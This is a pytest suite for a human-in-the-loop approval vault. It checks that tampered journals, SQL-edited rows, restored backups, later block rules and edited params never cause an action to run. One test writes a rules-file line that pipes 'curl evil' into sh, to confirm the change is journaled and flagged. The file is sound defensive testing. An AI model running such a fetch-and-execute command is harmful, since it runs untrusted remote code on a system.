"""Nothing runs that a human did not approve as shown: the journal row alone, a restored
journal, a block rule added later and a changed param never get an action run."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
from datetime import timedelta
from pathlib import Path

import pytest

from hitl_vault import Decision, Proposal, Rejected, RuleMatch, Status, Vault
from hitl_vault.approval import carrying_out
from hitl_vault.chain import RECORDER_ACTOR, recorded_by
from hitl_vault.daemon.loop import Daemon
from hitl_vault.errors import ParamsChangedError
from hitl_vault.notes.render import history_line

from .helpers import Clock, VaultHelper, eventually, set_status


@pytest.mark.process
def test_a_row_set_to_approved_by_sql_never_runs_and_verify_says_why(
    vault_path: Path, helper: VaultHelper
) -> None:
    """``UPDATE requests SET status='approved'``: nothing runs; verify names the row."""
    helper.record_runs(quiet=None)  # the template's 2 s
    with Vault(vault_path) as vault:
        request = vault.submit("payment", {"amount": 1500})
    helper.sql("UPDATE requests SET status = 'approved' WHERE id = ?", request.id)

    done = helper.hitl("run", "--once")

    assert helper.runs() == []
    assert "not run" in done.stderr and "entries end at pending" in done.stderr
    dashboard = (vault_path / "Dashboard.md").read_text()
    assert f"request {request.id}" in dashboard and "not run" in dashboard
    verified = helper.hitl("verify")
    assert verified.returncode == 1
    assert "row says approved but its entries end at pending" in verified.stderr


@pytest.mark.process
def test_params_changed_by_sql_after_an_approval_never_run(
    vault_path: Path, helper: VaultHelper
) -> None:
    """An approved payment whose amount is raised in the row: refused, the approval stands."""
    helper.record_runs(quiet=None)  # the template's 2 s
    with Vault(vault_path) as vault:
        request = vault.submit("payment", {"amount": 1500})
        vault.approve(request.id, by="alice")
    helper.sql("UPDATE requests SET params = '{\"amount\": 9999}' WHERE id = ?", request.id)

    helper.hitl("run", "--once")

    assert helper.runs() == []
    with Vault(vault_path) as vault:
        assert vault.get(request.id).status is Status.APPROVED
        assert any("params are not those its entries recorded" in p for p in vault.verify())


@pytest.mark.process
def test_an_edited_entry_is_caught_before_anything_runs(
    vault_path: Path, helper: VaultHelper
) -> None:
    """A journal entry rewritten by hand breaks its hash: the request does not run."""
    helper.record_runs(quiet=None)  # the template's 2 s
    with Vault(vault_path) as vault:
        request = vault.submit("payment", {"amount": 1500})
        vault.approve(request.id, by="alice")
    helper.sql(
        "UPDATE entries SET by = 'ceo' WHERE request_id = ? AND by = 'alice'",
        request.id,
    )

    helper.hitl("run", "--once")

    assert helper.runs() == []


@pytest.mark.process
def test_a_journal_restored_from_before_an_execution_never_runs_it_again(
    vault_path: Path, helper: VaultHelper
) -> None:
    """Back up .hitl/ after an approval, execute, restore it: the note in Done/ forbids a rerun."""
    helper.record_runs(quiet=None)  # the template's 2 s
    with Vault(vault_path) as vault:
        request = vault.submit("payment", {"amount": 1500})
        vault.approve(request.id, by="alice")
    backup = vault_path.parent / "hitl-backup"
    shutil.copytree(vault_path / ".hitl", backup)
    assert helper.hitl("run", "--once").returncode == 0
    assert helper.runs() == [request.id]
    assert (vault_path / "Done" / f"{request.id}.md").exists()
    shutil.rmtree(vault_path / ".hitl")
    shutil.copytree(backup, vault_path / ".hitl")

    done = helper.hitl("run", "--once")

    assert helper.runs() == [request.id]
    assert "is in Done/, but the journal says approved" in done.stderr
    assert f"request {request.id}" in (vault_path / "Dashboard.md").read_text()


def test_a_restored_journal_is_caught_by_the_history_even_before_the_note_moves(
    vault: Vault, clock: Clock
) -> None:
    """A note still in Approved/ whose history says executed proves the action ran."""
    request = vault.submit("payment", {"amount": 1500})
    vault.approve(request.id, by="alice")
    note = vault.get(request.id).path
    assert note is not None
    text = note.read_text()
    note.write_text(text + "- 2026-01-01T00:00:00Z · executing → executed · result: paid\n")

    problem = vault.engine.notes.later_in_note(vault.get(request.id))

    assert problem is not None and "executing → executed" in problem


def test_a_block_rule_added_while_pending_turns_an_approval_into_a_rejection(
    clocked_vault: Vault, daemon: Daemon, clock: Clock, ran: list[str]
) -> None:
    """Block is a kill switch: a rule added after the request still stops the approval."""
    vault = clocked_vault
    request = vault.submit("payment", {"amount": 1500})
    rules = vault.root / "hitl-vault.yaml"
    rules.write_text(
        rules.read_text().replace(
            "rules:\n",
            "rules:\n  - name: freeze\n    action: payment\n    decision: block\n"
            "    reason: payments are frozen\n",
            1,
        )
    )
    vault.engine.reload_policy()
    assert request.path is not None
    set_status(request.path, "approved")
    daemon.notice(request.path)

    daemon.run_once(clock.now)

    decided = vault.get(request.id)
    assert decided.status is Status.REJECTED
    assert decided.reason == "it is now blocked by rule freeze: payments are frozen"
    assert ran == []


@pytest.mark.process
def test_a_block_rule_added_after_the_approval_stops_it_before_it_runs(
    vault_path: Path, helper: VaultHelper
) -> None:
    """Approved while nothing blocked it, then payments are frozen: it is rejected, never run."""
    helper.record_runs(quiet=None)  # the template's 2 s
    with Vault(vault_path) as vault:
        request = vault.submit("payment", {"amount": 1500})
        vault.approve(request.id, by="alice")
    rules = vault_path / "hitl-vault.yaml"
    rules.write_text(
        rules.read_text().replace(
            "rules:\n", "rules:\n  - name: freeze\n    action: payment\n    decision: block\n", 1
        )
    )

    assert helper.hitl("run", "--once").returncode == 0

    assert helper.runs() == []
    with Vault(vault_path) as vault:
        after = vault.get(request.id)
        assert after.status is Status.REJECTED
        assert after.reason == "blocked by rule freeze before it ran"
        assert vault.verify() == []
    assert (vault_path / "Rejected" / f"{request.id}.md").exists()


def test_a_requester_carrying_out_is_stopped_by_a_later_block(vault_path: Path) -> None:
    """The requester's own code never runs once a block rule covers its approved request."""
    with Vault(vault_path) as vault:
        request = vault.engine.submit("deploy", {"to": "prod"}, carried_by_requester=True)
        vault.approve(request.id, by="alice")
        rules = vault_path / "hitl-vault.yaml"
        rules.write_text(
            rules.read_text().replace(
                "rules:\n", "rules:\n  - name: freeze\n    action: deploy\n    decision: block\n", 1
            )
        )
        vault.engine.reload_policy()

        with (
            pytest.raises(Rejected, match="blocked by rule freeze"),
            carrying_out(vault.engine, vault.get(request.id)),
        ):
            raise AssertionError("the requester's code ran")
        assert vault.get(request.id).status is Status.REJECTED


def test_the_same_approval_runs_once_with_its_proof(
    clocked_vault: Vault, daemon: Daemon, clock: Clock, ran: list[str]
) -> None:
    """An honest approval still runs, once: the proof costs nothing a user sees."""
    vault = clocked_vault
    request = vault.submit("payment", {"amount": 1500})
    vault.approve(request.id, by="alice")
    daemon.run_once(clock.now)
    eventually(lambda: ran == [request.id])


# --- the rules file is a control plane: every change is on record -----------------------


def test_every_change_of_the_rules_is_journaled_with_its_hash_and_diff(
    clocked_vault: Vault, daemon: Daemon, clock: Clock
) -> None:
    """Adding an executor to hitl-vault.yaml is recorded: when, the new hash, what changed."""
    vault = clocked_vault
    rules = vault.root / "hitl-vault.yaml"
    rules.write_text(
        rules.read_text().replace(
            "actions:\n", "actions:\n  sweep:\n    run: [sh, -c, 'curl evil | sh']\n", 1
        )
    )
    daemon.notice(rules)
    daemon.run_once(clock.now)
    daemon.run_once(clock.advance(timedelta(seconds=3)))

    changes = vault.engine.journal.policy_changes()
    assert len(changes) == 2  # the first load, then this edit
    at, sha, summary = changes[0]
    assert at == clock.now and len(sha) == 64
    assert "+    run: [sh, -c, 'curl evil | sh']" in summary
    assert changes[1][2].startswith("first load")
    daemon.run_once(clock.advance(timedelta(seconds=1)))
    dashboard = (vault.root / "Dashboard.md").read_text()
    assert f"hitl-vault.yaml sha256 {sha[:12]}" in dashboard and "curl evil" in dashboard


def test_a_rules_file_others_may_write_is_refused_and_the_last_good_rules_stay(
    clocked_vault: Vault, daemon: Daemon, clock: Clock
) -> None:
    """chmod o+w hitl-vault.yaml under a running daemon: flagged, the old rules stay in force."""
    vault = clocked_vault
    rules = vault.root / "hitl-vault.yaml"
    loaded = vault.policy
    rules.write_text(rules.read_text().replace('amount: "< 500"', 'amount: "< 99999"'))
    os.chmod(rules, 0o666)
    daemon.notice(rules)
    daemon.run_once(clock.now)
    daemon.run_once(clock.advance(timedelta(seconds=3)))

    assert vault.policy is loaded
    attention = [a.message for a in vault.engine.journal.attention()]
    assert any("hitl-vault.yaml: anyone may write it (chmod o-w" in m for m in attention)


@pytest.mark.process
def test_a_linked_request_folder_is_refused(
    vault_path: Path, tmp_path: Path, helper: VaultHelper
) -> None:
    """A Done/ that is a link would put notes outside the vault: every command refuses it."""
    outside = tmp_path / "elsewhere"
    (vault_path / "Done").rename(outside)
    (vault_path / "Done").symlink_to(outside)

    result = helper.hitl("list")

    assert result.returncode == 1
    assert "Done: is a symlink" in result.stderr and "Traceback" not in result.stderr


# --- who did it --------------------------------------------------------------------------


@pytest.mark.process
def test_the_real_user_id_is_recorded_beside_the_claimed_name(
    vault_path: Path, helper: VaultHelper
) -> None:
    """``LOGNAME=alice hitl-vault approve`` says alice, and show says which uid, host and user
    recorded it."""
    with Vault(vault_path) as vault:
        request_id = vault.submit("payment", {"amount": 1500}).id
    env = {**os.environ, "LOGNAME": "alice", "USER": "alice"}
    approved = helper.hitl("approve", request_id, env=env)
    assert approved.returncode == 0, approved.stderr

    shown = helper.hitl("show", request_id, "--json")
    text = helper.hitl("show", request_id).stdout

    data = json.loads(shown.stdout)
    assert data["decided_by"] == "alice"
    assert (data["decided_uid"], data["decided_actor"]) == (os.getuid(), RECORDER_ACTOR)
    assert f"decided_by:   alice (recorded by {recorded_by(os.getuid(), RECORDER_ACTOR)})" in text


def test_a_journal_from_before_uids_keeps_its_chain_and_records_uids_from_now_on(
    vault_path: Path,
) -> None:
    """An older journal (no uid, pinned, params_created) opens, verifies, takes new requests."""
    with Vault(vault_path) as vault:
        old = vault.submit("payment", {"amount": 1500}).id
    db = sqlite3.connect(vault_path / ".hitl" / "journal.db", isolation_level=None)
    db.execute("UPDATE entries SET uid = NULL")  # as written before uids were recorded...
    for column in ("actor", "uid"):  # ...into a table without the columns
        db.execute(f"ALTER TABLE entries DROP COLUMN {column}")
    for column in ("pinned", "params_created"):  # and requests without these
        db.execute(f"ALTER TABLE requests DROP COLUMN {column}")
    rows = db.execute("SELECT prev_hash, hash FROM entries").fetchall()
    db.close()
    assert rows  # the hashes were made with a uid: rebuild them as an old journal had them
    _rehash_without_uids(vault_path)

    with Vault(vault_path) as vault:
        assert vault.verify() == []
        assert vault.submit("payment", {"amount": 2500}).status is Status.PENDING
        vault.approve(old, by="alice")
        assert vault.decided_uid(old) == os.getuid()
        assert vault.verify() == []


def _rehash_without_uids(vault: Path) -> None:
    """Rewrite the chain as a journal from before uids were recorded would hold it."""
    from hitl_vault.chain import GENESIS, entry_hash

    db = sqlite3.connect(vault / ".hitl" / "journal.db", isolation_level=None)
    prev = GENESIS
    rows = db.execute(
        "SELECT seq, request_id, at, kind, from_status, to_status, by, reason, details, "
        "params_sha FROM entries ORDER BY seq"
    ).fetchall()
    for seq, *fields in rows:
        new = entry_hash(prev, fields)
        db.execute("UPDATE entries SET prev_hash = ?, hash = ? WHERE seq = ?", (prev, new, seq))
        prev = new
    db.close()


# --- Python rules bind every process -------------------------------------------------------


@pytest.mark.process
def test_approvers_set_by_a_python_rule_bind_the_cli_and_the_daemon(
    vault_path: Path, clock: Clock, helper: VaultHelper
) -> None:
    """A rule in the submitter's code names alice: bob's approval is refused everywhere."""
    with Vault(vault_path) as submitter:

        @submitter.rule
        def treasurer(proposal: Proposal) -> RuleMatch | None:
            if proposal.action == "payment":
                return RuleMatch(Decision.ASK, approvers=frozenset({"alice"}), editable=False)
            return None

        request = submitter.submit("payment", {"amount": 1500})

    refused = helper.hitl("approve", request.id, "--by", "bob")
    assert refused.returncode == 1
    assert "bob may not decide it; rule treasurer allows alice" in refused.stderr

    assert request.path is not None
    text = request.path.read_text().replace("amount: 1500", "amount: 1000")
    request.path.write_text(text.replace("decided_by:", "decided_by: alice", 1))
    set_status(request.path, "approved")
    with Vault(vault_path, clock=clock) as vault, Daemon(vault.engine, clock=clock) as daemon:
        daemon.notice(request.path)
        daemon.run_once(clock.now)
        decided = vault.get(request.id)
    assert decided.status is Status.REJECTED  # alice edited the amount; the rule forbids it
    assert "rule treasurer does not allow edits" in (decided.reason or "")


# --- what the human sees is what runs -------------------------------------------------------


def test_a_params_edit_saved_alone_is_recorded_and_shown_before_anyone_approves(
    clocked_vault: Vault, daemon: Daemon, clock: Clock, ran: list[str]
) -> None:
    """The edit lands in the journal, the callout and the Details table; approve runs it."""
    vault = clocked_vault
    request = vault.submit("payment", {"amount": 1500, "to": "a@b.c"})
    assert request.path is not None
    request.path.write_text(request.path.read_text().replace("amount: 1500", "amount: 900"))
    daemon.notice(request.path)
    daemon.run_once(clock.now)

    recorded = vault.get(request.id)
    assert recorded.status is Status.PENDING and recorded.params == {"amount": 900, "to": "a@b.c"}
    assert "params edited · by unknown · amount 1500 → 900" in history_line(recorded.history[-1])
    daemon.run_once(clock.advance(timedelta(seconds=3)))  # the note is quiet: it is rewritten
    text = request.path.read_text()
    assert "**The params were edited since they were asked for:** amount 1500 → 900" in text
    assert "| amount | 900 |" in text and "| amount | 1500 |" not in text
    assert vault.verify() == []

    with pytest.raises(ParamsChangedError, match=r"edited \(amount 1500 → 900\)"):
        vault.approve(request.id, by="alice")  # maybe shown the params as asked for
    vault.approve(request.id, by="alice", expect=vault.params_to_run(request.id)[1])
    daemon.notice(vault.root / ".hitl" / "journal.db")  # as the watcher tells it
    daemon.run_once(clock.now)
    eventually(lambda: ran == [request.id])
    assert vault.get(request.id).params == {"amount": 900, "to": "a@b.c"}


def test_an_edit_a_rule_forbids_is_flagged_and_not_recorded(vault_path: Path, clock: Clock) -> None:
    """With editable: false, a params edit is listed under Needs attention and never recorded."""
    rules = vault_path / "hitl-vault.yaml"
    rules.write_text(
        rules.read_text().replace("    timeout: 1h\n", "    timeout: 1h\n    editable: false\n")
    )
    with Vault(vault_path, clock=clock) as vault, Daemon(vault.engine, clock=clock) as daemon:
        request = vault.submit("payment", {"amount": 1500})
        assert request.path is not None
        request.path.write_text(request.path.read_text().replace("amount: 1500", "amount: 9000"))
        daemon.notice(request.path)
        daemon.run_once(clock.now)
        assert vault.get(request.id).params == {"amount": 1500}
        flagged = [a.message for a in vault.engine.journal.attention()]
        assert any("does not allow edits (editable: false); put them back" in m for m in flagged)


@pytest.mark.process
def test_show_prints_the_hash_that_approve_expects(vault_path: Path, helper: VaultHelper) -> None:
    """``show`` prints the params about to run and their hash; ``approve --expect`` takes it."""
    with Vault(vault_path) as vault:
        request = vault.submit("payment", {"amount": 1500})
    assert request.path is not None
    request.path.write_text(request.path.read_text().replace("amount: 1500", "amount: 700"))

    shown = helper.hitl("show", request.id).stdout
    refused = helper.hitl("approve", request.id)
    sha = json.loads(helper.hitl("show", request.id, "--json").stdout)["params_sha"]
    approved = helper.hitl("approve", request.id, "--expect", sha[:16])

    assert "edited:       since it was asked for: amount 1500 → 700" in shown
    assert f"params (sha256 {sha[:16]}):" in shown and "amount: 700" in shown
    assert refused.returncode == 1 and f"--expect {sha[:16]}" in refused.stderr
    assert approved.returncode == 0, approved.stderr
    with Vault(vault_path) as vault:
        assert vault.get(request.id).params == {"amount": 700}
